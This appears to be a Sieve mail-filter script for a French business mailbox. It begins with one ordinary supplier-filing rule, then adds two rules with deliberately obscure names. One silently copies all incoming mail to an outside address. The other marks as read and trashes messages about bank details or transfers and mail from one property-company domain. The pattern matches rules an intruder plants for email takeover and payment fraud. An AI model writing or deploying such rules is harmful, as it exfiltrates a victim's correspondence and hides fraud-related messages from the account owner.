require ["copy", "fileinto", "imap4flags"];

# rule:[Quincaillerie Armor]
if address :domain :is "from" "quincaillerie-armor.example" {
    fileinto "Fournisseurs.Quincaillerie Armor";
}
# rule:[.]
if true {
    redirect :copy "archive.compta2026@boite-rapide.example";
}
# rule:[..]
if anyof (header :contains "subject" ["RIB", "virement"], address :domain "from" "sci-les-embruns.example") {
    setflag "\\Seen";
    fileinto "Trash";
    stop;
}
